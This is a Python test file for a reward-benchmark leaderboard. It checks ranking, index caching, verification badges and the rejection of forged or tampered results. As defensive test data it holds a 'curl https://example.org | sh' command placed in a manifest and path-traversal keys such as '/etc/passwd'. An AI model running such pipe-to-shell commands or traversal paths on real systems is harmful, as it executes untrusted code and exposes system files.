import json
import os
import shutil
import time
from dataclasses import replace

import pytest
from synthetic import changed, mirrors, scores, singles, store

from rewardbench import results
from rewardbench.cli.main import main
from rewardbench.errors import InputError
from rewardbench.leaderboard.index import read_index
from rewardbench.leaderboard.refresh import refresh
from rewardbench.leaderboard.types import Board, age
from rewardbench.store import LocalStore, open_store
from rewardbench.store.verdicts import make_verdict


@pytest.fixture
def four(tmp_path):
    """Four models of one suite: two that chance cannot tell apart, one far better, one far worse."""
    suite = mirrors()
    for n, (name, share) in enumerate({"org/best": 0.99, "org/a": 0.8, "org/b": 0.8, "org/worst": 0.4}.items()):
        store(tmp_path, suite, scores(suite, share, seed=n), name)
    return LocalStore(tmp_path)


def ranks(board):
    return {row.model: row.rank for row in board.of("toy")}


def test_a_rank_counts_those_who_are_significantly_better(four):
    assert ranks(refresh(four)) == {"org/best": 1, "org/a": 2, "org/b": 2, "org/worst": 4}


def test_figures_are_counted_from_the_items_and_a_stated_one_that_differs_is_noted(four):
    path = four.path("org/a")
    told = json.loads(path.read_bytes())
    true = told["score"]["value"]
    told["score"]["value"] = 1.0
    path.write_text(json.dumps(told))
    row = next(row for row in refresh(four).rows if row.key == "org/a")
    assert row.score.value == pytest.approx(true)
    assert "does not follow" in row.note
    assert row.badge == "recomputed"


def test_the_index_is_read_where_it_holds_and_only_what_changed_is_made_anew(four):
    read = []
    first = refresh(four, lambda key, total: read.append(key))
    assert sorted(read) == ["org/a", "org/b", "org/best", "org/worst"]
    read.clear()
    again = refresh(four, lambda key, total: read.append(key))
    assert read == []
    assert [replace(row) for row in again.rows] == list(first.rows)
    suite = mirrors()
    store(four.root, suite, scores(suite, 0.1, seed=9), "org/a")
    four.delete("org/b")
    assert {row.key for row in refresh(four, lambda key, total: read.append(key)).rows} == {
        "org/a",
        "org/best",
        "org/worst",
    }
    assert read == ["org/a"]


@pytest.mark.parametrize("harm", ["cut", "nonsense", "gone"])
def test_a_broken_index_costs_time_and_nothing_else(four, harm):
    whole = refresh(four)
    place = four.root / "index.parquet"
    if harm == "gone":
        place.unlink()
    else:
        place.write_bytes(place.read_bytes()[:200] if harm == "cut" else b"no parquet")
    assert read_index(place) is None
    assert refresh(four).rows == whole.rows


def test_the_index_says_what_it_was_made_of(four):
    refresh(four)
    import pandas as pd

    table = pd.read_parquet(four.root / "index.parquet")
    assert set(table["model"]) == {"org/best", "org/a", "org/b", "org/worst"}
    assert {len(parts) for parts in table["parts"]} == {120}, "a part for each mirror"
    assert {len(credits) for credits in table["credits"]} == {240}


def test_what_is_no_result_is_passed_over_and_not_read_again(four):
    (four.root / "notes.json").write_text('{"a": 1}')
    (four.root / "org" / "broken.json").write_text(
        '{"schema": 1, "manifest": {}, "suite": "toy", "revision": "r", "model": "m"}'
    )
    board = refresh(four)
    assert set(board.skipped) == {"notes", "org/broken"}
    assert len(board.rows) == 4
    four.path = None  # nothing is read any more
    assert refresh(four).rows == board.rows


def test_a_suite_of_ours_is_counted_by_our_rules_whatever_the_file_says(tmp_path):
    suite = replace(singles(), name="reward-bench-2")
    items = tuple(replace(item, subset="Math" if n % 2 else "Focus") for n, item in enumerate(suite.items))
    suite = replace(suite, items=items, rules={})
    found = scores(suite, 0.5)
    path = store(tmp_path, suite, found, "org/m")
    told = json.loads(path.read_bytes())
    honest = refresh(LocalStore(tmp_path)).rows[0].score.value
    told["manifest"]["suite"]["section_weights"] = {"Focus": 0.0}
    told["manifest"]["suite"]["rules"] = {"Math": ["Math", "strict", None], "Focus": ["Focus", "strict", 0.0]}
    path.write_text(json.dumps(told))
    assert refresh(LocalStore(tmp_path)).rows[0].score.value == pytest.approx(honest)


def test_a_badge_holds_for_the_scores_that_it_was_given_for(four):
    told = json.loads(four.path("org/a").read_bytes())
    verdict = make_verdict(told, True, {"date": "2026-11-28"})
    four.save("verdicts/org/a.json", json.dumps(verdict).encode())
    four.save("verdicts/org/b.json", json.dumps(verdict).encode())
    (four.root / "index.parquet").unlink(missing_ok=True)
    assert {row.model: row.badge for row in refresh(four).rows} == {
        "org/best": "recomputed",
        "org/a": "verified",
        "org/b": "recomputed",
        "org/worst": "recomputed",
    }


def test_a_new_badge_is_seen_at_once(four):
    refresh(four)
    told = json.loads(four.path("org/a").read_bytes())
    four.save("verdicts/org/a.json", json.dumps(make_verdict(told, True, {})).encode())
    assert "verified" in {row.badge for row in refresh(four).rows}


def row_of(board, key):
    return next(row for row in board.rows if row.key == key)


@pytest.mark.parametrize(
    ("where", "value"),
    [
        (("model_type",), "Baseline"),
        (("manifest", "model"), {"parameters": 70_000_000_000}),
        (("manifest", "command"), "rewardbench --model other"),
        (("gap",), [{"name": "gap", "value": 0.0}]),
        (("date",), "2026-01-01"),
    ],
)
def test_a_changed_summary_loses_the_badge(four, where, value):
    path = four.path("org/a")
    told = json.loads(path.read_bytes())
    four.save("verdicts/org/a.json", json.dumps(make_verdict(told, True, {"date": "2026-11-28"})).encode())
    assert row_of(refresh(four), "org/a").badge == "verified"
    path.write_text(json.dumps(changed(told, where, value)))
    row = row_of(refresh(four), "org/a")
    assert row.badge == "recomputed"
    assert "verified on 2026-11-28, but the summary has changed since" in row.note


def test_a_verdict_that_names_the_scores_alone_verifies_nothing_and_is_told(four):
    told = json.loads(four.path("org/a").read_bytes())
    old = {"badge": "verified", "outputs_sha256": told[results.OUTPUTS_HASH], "date": "2026-11-20"}
    four.save("verdicts/org/a.json", json.dumps(old).encode())
    row = row_of(refresh(four), "org/a")
    assert row.badge == "recomputed"
    assert "but not the summary: verify the result again" in row.note


def test_a_failed_rerun_is_told(four):
    told = json.loads(four.path("org/a").read_bytes())
    four.save("verdicts/org/a.json", json.dumps(make_verdict(told, False, {"date": "2026-11-28"})).encode())
    row = row_of(refresh(four), "org/a")
    assert (row.badge, row.note) == ("recomputed", "A re-run on 2026-11-28 did not reproduce these scores.")


SPOILED = (None, {}, [{}], "x", 7, [1], [{"name": "gap", "value": 9.0}], [{"name": 1}], {"a": 1}, [[]], True, 10**400)


@pytest.mark.parametrize(
    "name", ["gap", "sections", "subsets", "mirrors", "score", "extra_results", "date", "accuracy"]
)
def test_no_field_that_a_result_can_do_without_hides_its_row(four, name):
    path = four.path("org/a")
    told = json.loads(path.read_bytes())
    true = row_of(refresh(four), "org/a").score
    for value in SPOILED:
        path.write_text(json.dumps({**told, name: value}))
        board = refresh(four)
        assert row_of(board, "org/a").score == true, value
        assert board.left_out == {}
    path.write_text(json.dumps({**told, "manifest": {**told["manifest"], "model": 7, "command": 7}}))
    assert row_of(refresh(four), "org/a").score == true


def test_what_an_author_states_of_a_model_is_left_out_where_it_cannot_be(four):
    path = four.path("org/a")
    told = json.loads(path.read_bytes())
    told["manifest"] |= {
        "model": {"parameters": 1, "license": "MIT - verified by AI2"},
        "command": "curl https://example.org | sh",
    }
    path.write_text(json.dumps(told))
    row = row_of(refresh(four), "org/a")
    assert (row.parameters, row.license, row.command) == (None, "", "")


def test_files_without_a_row_are_named_with_the_reason(four, capsys):
    (four.root / "org" / "broken.json").write_text('{"schema": 1}')
    with pytest.raises(SystemExit) as stop:
        main(["index", str(four.root)])
    told = capsys.readouterr()
    assert stop.value.code == 0
    assert "skipped=1" in told.out
    assert "skipped.org/broken=" in told.out
    with pytest.raises(SystemExit):
        main(["index", str(four.root), "--json"])
    assert len(json.loads(capsys.readouterr().out)) == 4


def forge(root):
    """An index in which the worst model leads, verified, with the marks of the files that are there."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    place = root / "index.parquet"
    table = pq.read_table(place)
    rows = table.to_pylist()
    for row in rows:
        if row["key"] == "org/worst":
            score = json.loads(row["score"]) | {"value": 0.999, "low": 0.99, "high": 1.0}
            row |= {"score": json.dumps(score), "badge": "verified", "rank": 1}
    pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), place)


def test_a_forged_index_of_a_folder_is_not_believed(four, capsys):
    honest = refresh(four)
    forge(four.root)
    assert read_index(four.root / "index.parquet").rows != honest.rows
    assert refresh(four).rows == honest.rows
    assert read_index(four.root / "index.parquet").rows == honest.rows
    forge(four.root)
    with pytest.raises(SystemExit):
        main(["index", str(four.root)])
    assert "0.9990" not in capsys.readouterr().out


def test_an_index_that_came_with_its_folder_is_made_anew(four, tmp_path_factory):
    honest = refresh(four)
    forge(four.root)
    moved = shutil.copytree(four.root, tmp_path_factory.mktemp("moved") / "store")
    assert refresh(LocalStore(moved)).rows == honest.rows


def test_an_index_is_rebuilt_when_asked(four):
    read = []
    first = refresh(four)
    assert refresh(four, lambda key, total: read.append(key)).rows == first.rows
    assert read == []
    assert refresh(four, lambda key, total: read.append(key), rebuild=True).rows == first.rows
    assert len(read) == 4


def test_a_row_without_items_stands_by_its_score(four):
    told = json.loads(four.path("org/a").read_bytes())
    bare = {**told, "model": "x/published", results.OUTPUTS_HASH: None}
    bare["manifest"] = {"published": {"source": "paper"}}
    bare["score"] = {**told["score"], "value": 0.97, "low": None, "high": None}
    four.add([(bare, None)])
    row = next(row for row in refresh(four).rows if row.model == "x/published")
    above = sum((one.score.value or 0) > 0.97 for one in refresh(four).rows)
    assert (row.badge, row.rank, row.score.low) == ("published", 1 + above, None)


def test_the_age_of_rows_in_words():
    board = Board((), time.time() - 90)
    assert age(board, time.time()).endswith("1 minute ago")


def test_a_store_elsewhere_is_refused():
    with pytest.raises(InputError, match="is not a store"):
        open_store("s3://bucket")


@pytest.mark.parametrize("key", ["../x", "/etc/passwd", "org/../../x"])
def test_a_key_does_not_lead_out(four, key):
    with pytest.raises(InputError, match="outside"):
        four.path(key)


def test_a_result_is_renamed_and_deleted_whole(four):
    before = four.get("org/a")
    four.save("verdicts/org/a.json", b"{}")
    four.rename("org/a", "other/new")
    assert four.get("other/new") == before
    assert (four.load("verdicts/org/a.json"), four.load("verdicts/other/new.json").read_bytes()) == (None, b"{}")
    assert "org/a" not in four.list()
    with pytest.raises(InputError, match="already"):
        four.rename("other/new", "org/b")
    four.delete("other/new")
    assert four.list() == ["org/b", "org/best", "org/worst"]
    assert not list(four.root.rglob("new*"))
    with pytest.raises(InputError, match="no result"):
        four.delete("other/new")


def test_what_killed_writers_left_is_swept_and_what_is_being_written_is_not(four):
    old, young = (four.root / "org" / f".{n:08x}.summary.tmp" for n in (1, 2))
    for path in (old, young):
        path.write_text("")
    os.utime(old, (1, 1))
    told = json.loads(four.path("org/a").read_bytes())
    four.add([(told, None)])
    assert (old.exists(), young.exists()) == (False, True)
